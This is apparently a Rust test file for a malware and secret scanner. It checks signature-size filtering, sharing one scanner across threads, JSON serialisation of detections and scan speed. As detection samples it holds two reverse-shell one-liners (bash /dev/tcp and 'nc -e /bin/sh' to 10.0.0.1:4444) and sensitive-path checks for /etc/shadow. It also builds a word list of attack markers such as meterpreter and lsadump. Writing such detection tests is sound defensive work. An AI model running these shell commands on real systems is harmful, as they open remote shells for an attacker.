//! The scanner as a whole: `wants`, threads, serialisation, disabled detectors.

use std::sync::Arc;

use crate::common::*;
use vigil_detect::{Category, Config, Detection, Scanner, Source};

#[test]
fn wants_is_cheap_and_follows_the_configuration() {
    let all = Scanner::new(Config::default()).unwrap();
    assert!(!all.wants("usr/bin/ls", 0));
    assert!(all.wants("usr/bin/ls", 100));

    let dir = scratch_dir("wants");
    let list = dir.join("sigs.hdb");
    std::fs::write(&list, "900150983cd24fb0d6963f7d28e17f72:3:Test.Abc\n").unwrap();
    let hashes_only = Scanner::new(Config {
        hash_files: vec![list],
        builtin_rules: false,
        secrets: false,
        sensitive_files: false,
        ..Config::default()
    })
    .unwrap();
    assert!(hashes_only.wants("x", 3));
    assert!(!hashes_only.wants("x", 4), "no signature of that size");
    let found = scan(&hashes_only, "srv/abc", b"abc");
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].rule, "hash:Test.Abc");
    assert_eq!(found[0].source, Source::HashList);
    assert_eq!(
        found[0].md5.as_deref(),
        Some("900150983cd24fb0d6963f7d28e17f72")
    );
    assert!(found[0].sha256.is_some());

    let sensitive_only = Scanner::new(Config {
        builtin_rules: false,
        secrets: false,
        ..Config::default()
    })
    .unwrap();
    assert!(sensitive_only.wants("/etc/shadow", 10));
    assert!(sensitive_only.wants("root/.bash_history", 10));
    assert!(!sensitive_only.wants("usr/bin/ls", 10));

    let nothing = Scanner::new(Config {
        builtin_rules: false,
        secrets: false,
        sensitive_files: false,
        ..Config::default()
    })
    .unwrap();
    assert!(!nothing.wants("etc/shadow", 10));
    assert!(nothing.scan("etc/shadow", b"root::1:::::\n", 13).is_empty());
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn one_scanner_serves_many_threads() {
    let s = Arc::new(Scanner::new(Config::default()).unwrap());
    let mut rng = Rng::new(77);
    let token = format!("glpat-{}", rng.chars(ALNUM, 20));
    let shell = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n".to_string();
    std::thread::scope(|scope| {
        let handles: Vec<_> = (0..4)
            .map(|i| {
                let s = Arc::clone(&s);
                let token = token.clone();
                let shell = shell.clone();
                scope.spawn(move || {
                    let mut session = s.session();
                    let mut n = 0;
                    for _ in 0..25 {
                        let text = if i % 2 == 0 {
                            token.as_bytes()
                        } else {
                            shell.as_bytes()
                        };
                        n += session.scan("srv/x.sh", text, text.len() as u64).len();
                    }
                    n
                })
            })
            .collect();
        for h in handles {
            assert_eq!(h.join().unwrap(), 25);
        }
    });
}

#[test]
fn detections_serialise_with_wire_names() {
    let s = Scanner::new(Config::default()).unwrap();
    let found = scan(&s, "srv/x.sh", b"nc -e /bin/sh 10.0.0.1 4444\n");
    assert_eq!(
        rules_of(&found, Category::Malware),
        ["Reverse_Shell_Netcat_Exec"]
    );
    let json = serde_json::to_value(&found[0]).unwrap();
    assert_eq!(json["category"], "malware");
    assert_eq!(json["source"], "yara");
    assert_eq!(json["severity"], "critical");
    assert_eq!(json["class"], "reverse-shell");
    assert_eq!(json["line"], 1);
    let back: Detection = serde_json::from_value(json).unwrap();
    assert_eq!(back, found[0]);
}

/// Throughput of the full default scanner (built-in YARA rules, secrets, sensitive files) in the
/// test (dev) profile over 50 MiB: half text that is dense in the rules' atoms (PHP, sockets,
/// `password =`, token prefixes), half binary. Prints MiB/s; the floor only catches a
/// pathological slowdown on a loaded two-core machine.
#[test]
fn scan_speed_in_the_dev_profile() {
    let s = Scanner::new(Config::default()).unwrap();
    let mut rng = Rng::new(99);
    let words = [
        "<?php",
        "$_POST",
        "eval",
        "socket.socket(",
        "connect",
        "password",
        "=",
        "pool",
        "stratum",
        "AKIA",
        "ghp_",
        "xoxb-",
        "/bin/sh",
        "exec",
        "request",
        "the",
        "and",
        "config",
        "\n",
        "{",
        "}",
        "\"url\":",
        "nc",
        "-e",
        "lsadump::",
        "meterpreter",
        "BEGIN",
    ];
    let mut files: Vec<(String, Vec<u8>)> = Vec::new();
    for i in 0..100 {
        let mut text = String::with_capacity(256 << 10);
        while text.len() < 256 << 10 {
            let w = words[(rng.next() % words.len() as u64) as usize];
            text.push_str(w);
            text.push(' ');
            if rng.next().is_multiple_of(8) {
                text.push_str(&rng.chars(ALNUM, 12));
                text.push(' ');
            }
        }
        text.truncate(256 << 10);
        files.push((format!("srv/app/conf{i}.yaml"), text.into_bytes()));
        files.push((format!("usr/lib/lib{i}.so"), rng.bytes(256 << 10)));
    }
    let total: usize = files.iter().map(|(_, d)| d.len()).sum();
    assert_eq!(total, 50 << 20);
    let mut session = s.session();
    let start = std::time::Instant::now();
    let mut found = std::collections::BTreeMap::<String, usize>::new();
    for (path, data) in &files {
        for d in session.scan(path, data, data.len() as u64) {
            *found.entry(d.rule).or_default() += 1;
        }
    }
    let secs = start.elapsed().as_secs_f64();
    let rate = total as f64 / 1048576.0 / secs;
    eprintln!("50 MiB in {secs:.2} s ({rate:.1} MiB/s), detections: {found:?}");
    assert!(rate > 2.0, "{rate:.1} MiB/s");
}
